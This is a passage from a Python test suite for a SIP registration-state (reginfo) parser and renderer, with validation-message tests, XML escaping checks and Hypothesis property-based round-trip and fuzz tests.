            {"aor": "sip:a@example.com", "contacts": [json_contact(**contact_fields)]}
        ]
    }


A = "registration 1 (aor sip:a@example.com)"
A_CONTACT = f"{A}: contact 1"


@pytest.mark.parametrize(
    ("events", "message"),
    [
        ([], "the document must be a JSON object"),
        ("<reginfo/>", "the document must be a JSON object"),
        (None, "the document must be a JSON object"),
        (
            {"registrations": [], "extra": 1, "Version": 2},
            "the document: unknown key 'Version', 'extra'; expected registrations, state, version",
        ),
        ({}, "registrations is required"),
        ({"registrations": {"aor": "sip:a@example.com"}}, "registrations must be a list"),
        ({"registrations": [], "version": "1"}, "version must be a non-negative integer"),
        ({"registrations": [], "version": True}, "version must be a non-negative integer"),
        ({"registrations": [], "version": -1}, "version must be a non-negative integer"),
        ({"registrations": [], "version": 2**64}, f"version must be at most {MAX_COUNTER}"),
        (
            {"registrations": [], "state": "complete"},
            "state must be one of full, partial, not 'complete'",
        ),
        ({"registrations": [], "state": 1}, "state must be a string"),
        (
            {
                "registrations": [
                    {"aor": f"sip:{n}@example.com"} for n in range(MAX_REGISTRATIONS + 1)
                ]
            },
            f"more than {MAX_REGISTRATIONS} registrations",
        ),
        ({"registrations": ["sip:a@example.com"]}, "registration 1 must be a JSON object"),
        ({"registrations": [{}]}, "registration 1: aor is required"),
        ({"registrations": [{"aor": 5}]}, "registration 1: aor must be a string"),
        (
            {"registrations": [{"aor": "sip:a@example.com", "expires": 5}]},
            "registration 1: unknown key 'expires'; expected aor, contacts, id, state",
        ),
        (
            {"registrations": [{"aor": "sip:a@example.com", "state": "up"}]},
            f"{A}: state must be one of init, active, terminated, not 'up'",
        ),
        (
            {"registrations": [{"aor": "sip:a@example.com", "contacts": {}}]},
            f"{A}: contacts must be a list",
        ),
        (
            {"registrations": [{"aor": "sip:a@example.com", "contacts": [[]]}]},
            f"{A}: contact 1 must be a JSON object",
        ),
        (
            {
                "registrations": [
                    {
                        "aor": "sip:a@example.com",
                        "contacts": [json_contact(id=str(n)) for n in range(MAX_CONTACTS + 1)],
                    }
                ]
            },
            f"{A}: more than {MAX_CONTACTS} contacts",
        ),
        (
            {"registrations": [{"aor": "sip:a@example.com"}, {"aor": "sip:a@example.com"}]},
            "registration 2 (aor sip:a@example.com): id is already used by registration 1",
        ),
        (json_events(uri=None), f"{A_CONTACT}: uri is required"),
        (
            json_events(event="gone"),
            f"{A_CONTACT}: event must be one of registered, created, "
            "refreshed, shortened, expired, deactivated, probation, unregistered, rejected, not 'gone'",
        ),
        (
            json_events(state="terminated"),
            f"{A_CONTACT}: event registered leaves a contact active, not terminated",
        ),
        (json_events(expires="3600"), f"{A_CONTACT}: expires must be a non-negative integer"),
        (json_events(expires=3600.0), f"{A_CONTACT}: expires must be a non-negative integer"),
        (json_events(cseq=False), f"{A_CONTACT}: cseq must be a non-negative integer"),
        (json_events(retry_after=-5), f"{A_CONTACT}: retry_after must be a non-negative integer"),
        (
            json_events(duration_registered=[1]),
            f"{A_CONTACT}: duration_registered must be a non-negative integer",
        ),
        (json_events(q=0.5), f"{A_CONTACT}: q must be a string"),
        (
            json_events(q="2"),
            f"{A_CONTACT}: q must be a number from 0 to 1 with at most three decimals",
        ),
        (json_events(instance=7), f"{A_CONTACT}: instance must be a string"),
        (
            json_events(params=["reg-id=1"]),
            f"{A_CONTACT}: params must be an object of name: value strings",
        ),
        (
            json_events(params={"reg-id": 1}),
            f"{A_CONTACT}: params 'reg-id' must map a name to a string",
        ),
        (
            json_events(params={f"p{n}": "" for n in range(MAX_PARAMS)}, instance=IMEI),
            f"{A_CONTACT}: more than {MAX_PARAMS} params",
        ),
        (
            json_events(instance=IMEI, params={"+sip.instance": f"<{UUID}>"}),
            f"{A_CONTACT}: more than one +sip.instance",
        ),
        (
            json_events(pub_gruu="tel:+4930123456"),
            f"{A_CONTACT}: pub_gruu must be a sip: or sips: URI, not 'tel:+4930123456'",
        ),
        (
            json_events(source_ip="192.0.2.300"),
            f"{A_CONTACT}: source_ip must be an IPv4 or IPv6 address, not '192.0.2.300'",
        ),
        (
            json_events(display_name="Rob\x00"),
            f"{A_CONTACT}: display_name contains a character that XML cannot carry",
        ),
        (
            json_events(callid="\ud800@host"),
            f"{A_CONTACT}: callid contains a character that XML cannot carry",
        ),
        (
            json_events(user_agent="x" * (MAX_VALUE + 1)),
            f"{A_CONTACT}: user_agent is longer than {MAX_VALUE} characters",
        ),
        (
            json_events(expiry=5),
            f"{A}: contact 1: unknown key 'expiry'; expected access_network, callid, "
            "cseq, display_name, duration_registered, event, expires, id, instance, params, pub_gruu, "
            "q, retry_after, source_ip, state, temp_gruu, uri, user_agent",
        ),
    ],
)
def test_invalid_json_events_are_refused_with_a_message_saying_where(events, message):
    with pytest.raises(ReginfoError) as refused:
        parse_registration_events(events)

    assert str(refused.value) == message


# --- Rendering ----------------------------------------------------------------------------


def test_rendering_declares_extension_namespaces_only_where_used():
    plain = parse_reginfo_xml(RFC3680_FULL)
    assert b"gruuinfo" not in render_reginfo_xml(plain)
    assert EXT_NS.encode() not in render_reginfo_xml(plain)

    rendered = render_reginfo_xml(parse_reginfo_xml(IMPLICIT_SET))
    assert f'xmlns:gr="{GRUUINFO_NS}"'.encode() in rendered
    assert f'xmlns:ext="{EXT_NS}"'.encode() in rendered
    assert (
        f'<unknown-param name="+sip.instance">"&lt;{IMEI}&gt;"</unknown-param>'.encode() in rendered
    )


def test_rendering_escapes_what_xml_would_misread():
    tricky = contact(
        element_id='"76"\t<&>',
        uri="sip:joe@pc34.example.com;x=<&>",
        state="active",
        event="registered",
        callid=" a\r\nb ",
        display_name="Joe <&> \"Jo\" 'J'\r\nSmith",
        params=(("quoted", '"already"'), ("spaced", " x "), ("quote", '"'), ("empty", "")),
    )
    document = ReginfoDocument(
        3, "full", (RegistrationInfo("a&7", "sip:joe@example.com", "active", (tricky,)),)
    )

    rendered = render_reginfo_xml(document)

    assert b"<display-name>Joe &lt;&amp;&gt; \"Jo\" 'J'&#13;\nSmith</display-name>" in rendered
    assert parse_reginfo_xml(rendered) == document


# --- Properties ---------------------------------------------------------------------------

# Any character XML 1.0 can carry, with the ones that trip up escaping and stripping
# drawn more often.
xml_chars = st.one_of(
    st.sampled_from(list("<>&\"' \t\r\n\x85\xa0éß名😀")),
    st.characters(min_codepoint=0x20, codec="utf-8", exclude_characters="\ufffe\uffff"),
)
texts = st.text(xml_chars, max_size=20)
stripped_texts = texts.map(str.strip)
e164s = st.integers(10**7, 10**15 - 1).map(lambda n: f"+{n}")
domains = st.sampled_from(["ims.mnc001.mcc262.3gppnetwork.org", "swift.example", "example.com"])
aors = st.one_of(
    e164s.map(lambda tn: f"tel:{tn}"),
    st.builds(lambda tn, domain: f"sip:{tn}@{domain};user=phone", e164s, domains),
    st.builds(
        lambda name, domain: f"sip:{name}@{domain}",
        st.sampled_from(["rob", "ada.admin", "hugo-help", "o_operator"]),
        domains,
    ),
)
hosts = st.ip_addresses().map(lambda ip: f"[{ip}]" if ip.version == 6 else str(ip))
contact_uris = st.builds(
    lambda scheme, tn, host, port: f"{scheme}:{tn}@{host}:{port};transport=tcp",
    st.sampled_from(["sip", "SIP", "sips"]),
    e164s,
    hosts,
    st.integers(1024, 65535),
)
instances = st.one_of(
    st.integers(0, 10**15 - 1)
    .map(lambda n: f"{n:015d}")
    .map(lambda d: f"urn:gsma:imei:{d[:8]}-{d[8:14]}-{d[14]}"),
    st.uuids().map(lambda uuid: f"urn:uuid:{uuid}"),
)
temp_gruus = st.integers(0, 2**48).map(lambda n: f"sip:tgruu.{n:x}@swift.example;gr")
counters = st.none() | st.integers(0, MAX_COUNTER)
param_names = st.sampled_from(
    ["+g.3gpp.smsip", "+g.3gpp.icsi-ref", "reg-id", "video", "+SIP.Flow"]
) | st.text("abz.-+!~", min_size=1, max_size=8)
state_events = st.sampled_from(
    [("active" if event in ACTIVE_EVENTS else "terminated", event) for event in CONTACT_EVENTS]
)


@st.composite
def contacts(draw) -> ContactInfo:
    state, event = draw(state_events)
    instance = draw(st.just("") | instances)
    return ContactInfo(
        element_id=draw(st.text(xml_chars, min_size=1, max_size=12)),
        uri=draw(contact_uris),
        state=state,
        event=event,
        expires=draw(counters),
        duration_registered=draw(counters),
        retry_after=draw(counters),
        callid=draw(texts),
        cseq=draw(counters),
        q=draw(st.sampled_from(["", "0", "0.", "0.5", "0.125", "1", "1.0", "1.000"])),
        display_name=draw(stripped_texts),
        instance=instance,
        params=tuple(draw(st.dictionaries(param_names, texts, max_size=4)).items()),
        pub_gruu=f"sip:rob@swift.example;gr={instance}" if instance and draw(st.booleans()) else "",
        temp_gruu=draw(st.just("") | temp_gruus),
        user_agent=draw(stripped_texts),
        access_network=draw(stripped_texts),
        source_ip=draw(st.just("") | st.ip_addresses().map(str)),
    )


@st.composite
def registrations(draw) -> RegistrationInfo:
    bindings = tuple(draw(st.lists(contacts(), max_size=3, unique_by=lambda c: c.element_id)))
    if any(binding.state == "active" for binding in bindings):
        state = "active"
    else:
        state = draw(st.sampled_from(REGISTRATION_STATES))
    return RegistrationInfo(
        element_id=draw(st.text(xml_chars, min_size=1, max_size=12)),
        aor=draw(aors),
        state=state,
        contacts=bindings,
    )


documents = st.builds(
    lambda version, state, items: ReginfoDocument(version, state, tuple(items)),
    st.integers(0, MAX_COUNTER),
    st.sampled_from(["full", "partial"]),
    st.lists(registrations(), max_size=3, unique_by=(lambda r: r.element_id, lambda r: r.aor)),
)


def as_json(document: ReginfoDocument) -> dict:
    """The JSON form of ``document``: param values quoted, absent counters left out."""

    def contact_json(c: ContactInfo) -> dict:
        fields = {
            "id": c.element_id,
            "uri": c.uri,
            "state": c.state,
            "event": c.event,
            "callid": c.callid,
            "q": c.q,
            "display_name": c.display_name,
            "instance": c.instance,
            "params": {name: f'"{value}"' for name, value in c.params},
            "pub_gruu": c.pub_gruu,
            "temp_gruu": c.temp_gruu,
            "user_agent": c.user_agent,
            "access_network": c.access_network,
            "source_ip": c.source_ip,
        }
        counters = {
            "expires": c.expires,
            "duration_registered": c.duration_registered,
            "retry_after": c.retry_after,
            "cseq": c.cseq,
        }
        return fields | {key: value for key, value in counters.items() if value is not None}

    return {
        "version": document.version,
        "state": document.state,
        "registrations": [
            {
                "aor": r.aor,
                "id": r.element_id,
                "state": r.state,
                "contacts": [contact_json(c) for c in r.contacts],
            }
            for r in document.registrations
        ],
    }


PROPERTIES = settings(max_examples=150, deadline=None)


@PROPERTIES
@given(documents)
def test_what_is_rendered_parses_back_to_the_same_document(document):
    assert parse_reginfo_xml(render_reginfo_xml(document)) == document


@PROPERTIES
@given(documents)
def test_the_json_form_parses_to_the_same_document(document):
    posted = json.loads(json.dumps(as_json(document)))

    assert parse_registration_events(posted) == document


def parses_or_refuses(body: bytes) -> None:
    with contextlib.suppress(ReginfoError):
        parse_reginfo_xml(body)


@PROPERTIES
@given(st.binary(max_size=2000))
def test_any_bytes_parse_or_are_refused_with_a_reginfo_error(body):
    parses_or_refuses(body)


@PROPERTIES
@given(st.text(max_size=2000))
def test_any_text_parses_or_is_refused_with_a_reginfo_error(text):
    parses_or_refuses(text.encode("utf-8", "surrogatepass"))


@PROPERTIES
@given(documents, st.data())
def test_a_damaged_document_parses_or_is_refused_with_a_reginfo_error(document, data):
    body = render_reginfo_xml(document)
    start = data.draw(st.integers(0, len(body)))
    end = data.draw(st.integers(start, min(len(body), start + 40)))
    junk = data.draw(st.binary(max_size=8) | st.sampled_from([b"<", b"&", b'"', b"</x>", b"&#0;"]))
    parses_or_refuses(body[:start] + junk + body[end:])


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=10),
    lambda children: st.lists(children, max_size=3) | st.dictionaries(texts, children, max_size=3),
    max_leaves=12,
)


@PROPERTIES
@given(documents, st.data())
def test_a_damaged_json_event_parses_or_is_refused_with_a_reginfo_error(document, data):
    events = as_json(document)
    target = events
    for _ in range(data.draw(st.integers(0, 3))):
        if isinstance(target, dict) and target:
            key = data.draw(st.sampled_from(sorted(target)))
        elif isinstance(target, list) and target:
            key = data.draw(st.integers(0, len(target) - 1))
        else:
            break
        if not isinstance(target[key], dict | list):
            break
        target = target[key]
    if isinstance(target, dict):
        target[data.draw(st.sampled_from([*sorted(target), "extra"]))] = data.draw(json_values)
    elif target:
        target[data.draw(st.integers(0, len(target) - 1))] = data.draw(json_values)
    with contextlib.suppress(ReginfoError):
        parse_registration_events(events)
